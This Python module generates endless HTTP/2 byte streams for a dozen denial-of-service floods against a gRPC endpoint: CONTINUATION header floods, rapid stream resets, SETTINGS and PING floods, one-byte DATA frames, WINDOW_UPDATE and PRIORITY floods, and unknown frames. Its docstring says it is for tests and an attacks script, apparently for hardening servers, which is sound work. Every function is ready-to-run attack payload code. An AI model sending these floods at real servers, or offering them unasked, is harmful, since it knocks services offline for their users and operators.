"""What a client of HTTP/2 can send without end that costs it nothing (RFC 9113): for the tests and for attacks.py."""

import itertools
import struct

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MOST_AT_ONCE = 1 << 16  # bytes, about


def frame(kind, contents=b"", stream=0, flags=0):
    return struct.pack(">BHBBI", len(contents) >> 16, len(contents) & 0xFFFF, kind, flags, stream) + contents


def read_frame(stream):
    """(kind, flags, contents) of the next one; None at the end."""
    header = stream.read(9)
    if len(header) < 9:
        return None
    high, low, kind, flags, _ = struct.unpack(">BHBBI", header)
    return kind, flags, stream.read(high << 16 | low)


def literal(name, value):
    """An entry of a header block that is not kept (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path):
    entries = [(b":path", path), (b":authority", b"h"), (b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return b"\x83\x86" + b"".join(literal(*entry) for entry in entries)  # POST, http


CALL = call_headers(b"/grpc.health.v1.Health/Watch")
START = PREFACE + frame(SETTINGS)


def open_call(stream):
    return frame(HEADERS, CALL, stream, END_HEADERS)


def again(one, first=b""):
    yield START + first
    yield from itertools.repeat(one * (MOST_AT_ONCE // len(one)))


def streams(make):
    """What `make` gives for each stream of a connection."""
    yield START
    numbers = range(1, 1 << 31, 2)
    for start in range(0, len(numbers), 500):
        yield b"".join(map(make, numbers[start : start + 500]))


def headers_without_end():
    entries = b"".join(literal(b"x%05d" % i, bytes(100)) for i in range(140))
    return again(frame(CONTINUATION, entries, 1), frame(HEADERS, CALL, 1))


def headers_in_small_pieces():
    return again(frame(CONTINUATION, literal(b"x", b""), 1), frame(HEADERS, CALL, 1))


def resets():
    return streams(lambda stream: open_call(stream) + frame(RST_STREAM, bytes(4), stream))


def settings():
    return again(frame(SETTINGS))


def pings():
    return again(frame(PING, bytes(8)))


def answers_to_pings():
    return again(frame(PING, bytes(8), flags=ACK))


def empty_data():
    return again(frame(DATA, stream=1), open_call(1))


def small_data():
    """A message of 1 GiB in pieces of a byte."""
    message = frame(DATA, b"\0" + (1 << 30).to_bytes(4, "big"), 1)
    return again(frame(DATA, b"x", 1), open_call(1) + message)


def window_updates():
    return again(frame(WINDOW_UPDATE, (1).to_bytes(4, "big"), 1), open_call(1))


def priorities():
    return again(frame(PRIORITY, bytes(5), 3), open_call(1))


def unknown_frames():
    return again(frame(0x77))


def headers_of_ended_calls():
    return again(open_call(1), open_call(1) + frame(RST_STREAM, bytes(4), 1))


FLOODS = [headers_without_end, headers_in_small_pieces, resets, settings, pings, answers_to_pings, empty_data,
          small_data, window_updates, priorities, unknown_frames, headers_of_ended_calls]  # fmt: skip
